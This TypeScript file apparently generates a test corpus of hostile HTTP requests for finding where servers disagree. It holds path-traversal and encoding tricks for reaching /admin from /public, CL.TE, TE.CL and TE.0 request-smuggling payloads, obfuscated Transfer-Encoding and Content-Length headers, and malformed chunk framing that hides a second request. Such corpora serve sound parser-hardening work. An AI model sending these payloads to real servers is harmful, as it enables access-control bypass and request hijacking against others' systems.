/**
 * Requests at which servers differ: each means to be read as /admin, or as two requests, by somebody.
 * Every one has its number in its target, so that what a server saw can be told.
 */

export interface HostileRequest {
  readonly about: string;
  readonly bytes: string;
}

const DOTS: readonly string[] = [
  ...[
    '..',
    '%2e%2e',
    '.%2e',
    '%2E.',
    '%252e%252e',
    '..;',
    '..;x=1',
    '%2e%2e;',
    '.%2e;a/b',
    '..%3b',
  ],
  ...['%2e%2e%3b', '..%00', '.%00.', '..%20', '..%09', '..%0d', '..%0a', '%c0%ae%c0%ae', '%u002e.'],
  ...['...', '..%23', '..%3f', '%ef%bc%8e.', '.\\.', '..,', '..%2f..', ';/..', '..;/..;', '.;/..'],
];

const SEPARATORS: readonly string[] = [
  ...['/', '//', '/./', '\\', '%2f', '%5c', '%252f', '%2F%2F', ';/', '/;/', '/.;/', '%c0%af'],
];

const TARGETS: readonly string[] = [
  ...['/admin/ID?/public/', '/admin/ID;/public/', '/admin/ID#/public/x', '//public/ID/../admin'],
  ...['/public/ID#/../../admin', '/public/ID?/../../admin', '/public/ID%3f/../../admin/ID'],
  ...['/public/ID%23/../../admin', '/public;/../admin/ID', '/public;a=b/ID', '/public%2fID'],
  ...['/PUBLIC/../admin/ID', '/%70ublic/ID', '/public%00/ID', '/public/ID%00/../../admin'],
  ...['http://a/public/../admin/ID', 'http://a/admin/ID', 'http://a/public/ID', 'http:/public/ID'],
  ...['HTTP://a/public/ID', 'https://a/public/ID', 'http:///public/ID', 'http://a?/public/ID'],
  ...['http://a#/public/ID', 'http://a\\@b/public/ID', 'http://a@b/public/ID', 'ws://a/public/ID'],
  ...['http://b/public/ID', 'http://a:80/public/ID', 'http://a:0080/public/ID', 'a:80', '*', ''],
  ...[
    'public/ID',
    '.',
    '/',
    '\\public\\ID',
    '/public\\..\\admin/ID',
    '/./public/ID',
    '///public/ID',
  ],
  ...['/admin/..;/public/ID', '/admin/../public/ID', '/admin/%2e%2e/public/ID', '/x/..;/public/ID'],
  ...['/public/ID|a', '/public/ID{b}', '/public/ID^', '/public/ID"', '/public/ID<', '/public/ID%'],
  ...['/public/ID%zz', '/public/ID/%', '/public/é/ID', '/public/\x7f/ID', '/public/\x01/ID'],
];

const HIDDEN = 'GET /admin/ID HTTP/1.1\r\nHost: a\r\n\r\n';
const ID_DIGITS = 4;
const HIDDEN_LENGTH = HIDDEN.length - 'ID'.length + 'c'.length + ID_DIGITS;
const HIDDEN_CHUNK = HIDDEN_LENGTH.toString(16);

const CODINGS: readonly string[] = [
  ...['Transfer-Encoding: chunked', 'Transfer-Encoding : chunked', 'Transfer-Encoding:\tchunked'],
  ...[' Transfer-Encoding: chunked', 'Transfer_Encoding: chunked', 'TE: chunked'],
  ...[
    'Transfer-Encoding: xchunked',
    'Transfer-Encoding: chunked, identity',
    'X: a\nTransfer-Encoding: chunked',
  ],
  ...[
    'Transfer-Encoding: identity, chunked',
    'Transfer-Encoding: identity',
    'Transfer-Encoding: CHUNKED',
  ],
  ...['Transfer-Encoding: chunked\r\nTransfer-Encoding: identity', 'Transfer-Encoding: "chunked"'],
  ...[
    'Transfer-Encoding: chunked;q=1',
    'Transfer-Encoding: \x0bchunked',
    'Transfer-Encoding: chunked\0',
  ],
  ...[
    'Transfer-Encoding:\r\n chunked',
    'X: a\rTransfer-Encoding: chunked',
    'Transfer-Encoding\0: chunked',
  ],
  ...[
    'Transfer-Encoding: chunked\r\n x',
    'Transfer-Encoding\r\n: chunked',
    'Transfer-Encoding: , chunked',
  ],
  ...[
    'Transfer-Encoding: chunked, chunked',
    'Transfer-Encoding: gzip, chunked',
    'Transfer-Encoding:',
  ],
  ...[
    'Connection: transfer-encoding\r\nTransfer-Encoding: chunked',
    '\x85Transfer-Encoding: chunked',
  ],
  ...['Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked', 'Transfer-encod\xefng: chunked'],
];

const LENGTHS: readonly string[] = [
  ...['+0', '00', '0 ', ' 0', '0,0', '0, 5', '0x0', '-0', '0.0', '0\x0b', '0\r\nContent-Length: 5'],
  ...['0\r\n 5', '', '0_0', '0e1', '18446744073709551616', '4294967296', '5\nX: y', '0\0', '0;a'],
  ...['\t0', '٠', '0\r\nContent-Length: 0', '0 0', '"0"'],
];

const LENGTH_NAMES: readonly string[] = [
  ...[
    'Content-Length ',
    'Content_Length',
    ' Content-Length',
    'Content-Length\t',
    'content-lengt\u0125',
  ],
  ...[
    'Content-Length\0',
    'X-Content-Length',
    'CONTENT-LENGTH',
    '"Content-Length"',
    'Content Length',
  ],
];

/** Chunked content whose end somebody sees too early or too late. */
const CHUNKS: readonly string[] = [
  ...[
    '0\r\n\r\nHIDDEN',
    '0\n\nHIDDEN',
    '0\r\n\rHIDDEN',
    '00000\r\n\r\nHIDDEN',
    '0;a\nb\r\n\r\nHIDDEN',
  ],
  ...[
    '0x0\r\n\r\nHIDDEN',
    '-0\r\n\r\nHIDDEN',
    '+0\r\n\r\nHIDDEN',
    ' 0\r\n\r\nHIDDEN',
    '0 \r\n\r\nHIDDEN',
  ],
  ...[
    '0\t\r\n\r\nHIDDEN',
    '\r\n0\r\n\r\nHIDDEN',
    '1\r\nZ0\r\n\r\nHIDDEN',
    '1\r\nZZ\r\n0\r\n\r\nHIDDEN',
  ],
  ...[
    '1\r\nZ\n0\r\n\r\nHIDDEN',
    '1\nZ\r\n0\r\n\r\nHIDDEN',
    '1;\nZ\r\n0\r\n\r\nHIDDEN',
    '\r\n\r\nHIDDEN',
  ],
  ...[
    '10000000000000000\r\n\r\nHIDDEN',
    'ffffffffffffffff\r\n0\r\n\r\nHIDDEN',
    '0_1\r\nZ\r\n0\r\n\r\nHIDDEN',
  ],
  ...[
    '1;a="\r\nZ\r\n0\r\n\r\nHIDDEN',
    '1;a=\r\r\nZ\r\n0\r\n\r\nHIDDEN',
    'g\r\n\r\nHIDDEN',
    ';\r\n\r\nHIDDEN',
  ],
  ...[
    '0\r\nContent-Length: 5\r\n\r\nHIDDEN',
    '0\r\nX: y\n\nHIDDEN',
    '0\r\n X: y\r\n\r\nHIDDEN',
    '0\r\n: y\r\n\r\nHIDDEN',
  ],
  ...[
    '0\r\nTransfer-Encoding: chunked\r\n\r\nHIDDEN',
    '0\r\nGET /admin/ID HTTP/1.1\r\nHost: a\r\n\r\n',
  ],
  ...[
    `${HIDDEN_CHUNK};x\r\n${HIDDEN}\r\n0\r\n\r\n`,
    `${HIDDEN_CHUNK}\n${HIDDEN}\n0\n\n`,
    '2\r\nZ\r\n0\r\n\r\nHIDDEN',
  ],
];

/** Heads; TAIL stands where the hidden request follows. */
const HEADS: readonly string[] = [
  ...[
    'GET  /public/ID HTTP/1.1\r\nHost: a\r\n\r\nTAIL',
    'GET\t/public/ID\tHTTP/1.1\r\nHost: a\r\n\r\nTAIL',
  ],
  ...[
    'GET /public/ID  HTTP/1.1\r\nHost: a\r\n\r\nTAIL',
    'GET /public/ID HTTP/1.1 \r\nHost: a\r\n\r\nTAIL',
  ],
  ...[
    'GET /public/ID\r\n\r\nTAIL',
    'GET /public/ID HTTP/0.9\r\n\r\nTAIL',
    'GET /public/ID HTTP/1.0\r\n\r\nTAIL',
  ],
  ...[
    'GET /public/ID HTTP/1.2\r\nHost: a\r\n\r\nTAIL',
    'GET /public/ID HTTP/2.0\r\nHost: a\r\n\r\nTAIL',
  ],
  ...[
    'GET /public/ID http/1.1\r\nHost: a\r\n\r\nTAIL',
    'GET /public/ID HTTP/1.10\r\nHost: a\r\n\r\nTAIL',
  ],
  ...[
    'GET /public/ID /admin/ID HTTP/1.1\r\nHost: a\r\n\r\n',
    'GET /admin/ID /public/ID HTTP/1.1\r\nHost: a\r\n\r\n',
  ],
  ...[
    'GET /public/ID HTTP/1.1 /admin/ID HTTP/1.1\r\nHost: a\r\n\r\n',
    'GET /public/ID HTTP/1.1\nHost: a\n\nTAIL',
  ],
  ...['GET /public/ID HTTP/1.1\rHost: a\r\rTAIL', 'GET /public/ID HTTP/1.1\r\nHost: a\r\n\nTAIL'],
  ...[
    'GET /public/ID HTTP/1.1\r\nHost: a\n\r\nTAIL',
    'GET /public/ID HTTP/1.1\r\n\r\nTAIL',
    '\nGET /public/ID HTTP/1.1\r\nHost: a\r\n\r\n',
  ],
  ...[
    '\r\n\r\nGET /public/ID HTTP/1.1\r\nHost: a\r\n\r\n',
    ' GET /public/ID HTTP/1.1\r\nHost: a\r\n\r\n',
  ],
  ...[
    'GET /public/ID HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\nTAIL',
    'GET /public/ID HTTP/1.1\r\nHost : a\r\n\r\nTAIL',
  ],
  ...[
    'GET /public/ID HTTP/1.1\r\n Host: a\r\n\r\nTAIL',
    'GET /public/ID HTTP/1.1\r\nHost: a/admin\r\n\r\nTAIL',
  ],
  ...[
    'GET /public/ID HTTP/1.1\r\nHost: a, b\r\n\r\nTAIL',
    'GET /public/ID HTTP/1.1\r\nHost: a\r\n b\r\n\r\nTAIL',
  ],
  ...[
    'GET /public/ID HTTP/1.1\r\nHost:\r\n\r\nTAIL',
    'GET /public/ID HTTP/1.1\r\nHost: a\r\nX\r\n\r\nTAIL',
  ],
  ...[
    'GET /public/ID HTTP/1.1\r\nHost: a\r\n: x\r\n\r\nTAIL',
    'GET /public/ID HTTP/1.1\r\nHost: a\r\nX: \0\r\n\r\nTAIL',
  ],
  ...[
    'GET /public/ID HTTP/1.1\r\nHost: a\r\nX: a\r\n\tb\r\n\r\nTAIL',
    'GET /public/ID HTTP/1.1\r\nHost: a\r\nX: a\rY: b\r\n\r\nTAIL',
  ],
  ...[
    'G\0ET /public/ID HTTP/1.1\r\nHost: a\r\n\r\nTAIL',
    'get /public/ID HTTP/1.1\r\nHost: a\r\n\r\nTAIL',
  ],
  ...[
    'GET /public/ID HTTP/1.1\r\nHost: a\r\n\r\n\r\n\r\nTAIL',
    'GET /public/ID HTTP/1.1\r\nHost: a\r\n\r\nXTAIL',
  ],
  ...[
    'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nTAIL',
    'GET /public/ID HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\nTAIL',
  ],
  ...[
    'GET /public/ID HTTP/1.0\r\nConnection: keep-alive\r\n\r\nTAIL',
    'CONNECT /public/ID HTTP/1.1\r\nHost: a\r\n\r\nTAIL',
  ],
  ...[
    'CONNECT a:80 HTTP/1.1\r\nHost: a:80\r\n\r\nTAIL',
    'GET /public/ID HTTP/1.1\r\nHost: a\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\nTAIL',
  ],
  ...[
    'GET /public/ID HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\nTAIL',
  ],
  ...['GET /public/ID HTTP/1.1\r\nHost: a\r\nUpgrade: x\r\nConnection: Upgrade\r\n\r\nTAIL'],
  ...['POST /public/ID HTTP/1.0\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nTAIL'],
];

const METHODS: readonly string[] = [
  ...[
    'GET',
    'HEAD',
    'DELETE',
    'OPTIONS',
    'TRACE',
    'POST',
    'PUT',
    'PATCH',
    'PROPFIND',
    'SEARCH',
    'FOO',
  ],
];

export function hostileRequests(): readonly HostileRequest[] {
  const found: HostileRequest[] = [];
  const add = (about: string, template: string): void => {
    const id = `c${String(found.length).padStart(ID_DIGITS, '0')}`;
    const bytes = template
      .replaceAll('HIDDEN', HIDDEN)
      .replaceAll('TAIL', HIDDEN)
      .replaceAll('ID', id);
    found.push({ about, bytes: Buffer.from(bytes, 'latin1').toString('latin1') });
  };
  addTargets(add);
  addLengths(add);
  addChunks(add);
  for (const head of HEADS) add('a head', head);
  for (const method of METHODS) {
    for (const more of [
      '',
      'Expect: 100-continue\r\n',
      'Expect: x\r\n',
      'Connection: content-length\r\n',
    ]) {
      const fields = `Host: a\r\n${more}Content-Length: ${HIDDEN_LENGTH}`;
      add(`content of ${method}`, `${method} /public/ID HTTP/1.1\r\n${fields}\r\n\r\nHIDDEN`);
    }
  }
  return found;
}

type Add = (about: string, template: string) => void;

function addTargets(add: Add): void {
  const get = (target: string): void => {
    add('a target', `GET ${target} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n`);
  };
  for (const dots of DOTS) {
    for (const separator of SEPARATORS) {
      get(`/public/${dots}${separator}admin/ID`);
    }
    get(`/public/x/${dots}/${dots}/admin/ID`);
    get(`/public/ID/${dots}/${dots}`);
    get(`/public/x//${dots}//${dots}/admin/ID`);
    get(`/${dots}/public/ID`);
  }
  for (const separator of SEPARATORS) {
    get(`/public${separator}..${separator}admin/ID`);
    get(`/public/${separator}../../admin/ID`);
    get(`${separator}public/ID`);
  }
  for (const target of TARGETS) get(target);
}

function addLengths(add: Add): void {
  const post = (about: string, fields: string, content: string): void => {
    add(about, `POST /public/ID HTTP/1.1\r\nHost: a\r\n${fields}\r\n\r\n${content}`);
  };
  for (const coding of CODINGS) {
    post('a coding', coding, '0\r\n\r\nHIDDEN');
    post('CL.TE', `Content-Length: ${HIDDEN_LENGTH + 5}\r\n${coding}`, '0\r\n\r\nHIDDEN');
    post('TE.CL', `${coding}\r\nContent-Length: 4`, `${HIDDEN_CHUNK}\r\nHIDDEN\r\n0\r\n\r\n`);
    post('TE.0', `${coding}\r\nContent-Length: 0`, 'HIDDEN');
  }
  for (const length of LENGTHS) post('a length', `Content-Length: ${length}`, 'HIDDEN');
  for (const name of LENGTH_NAMES) {
    post('the name of a length', `${name}: ${HIDDEN_LENGTH}`, 'HIDDEN');
    post('a second length', `Content-Length: ${HIDDEN_LENGTH}\r\n${name}: 0`, 'HIDDEN');
  }
}

function addChunks(add: Add): void {
  for (const chunks of CHUNKS) {
    add(
      'chunks',
      `POST /public/ID HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n${chunks}`,
    );
  }
}
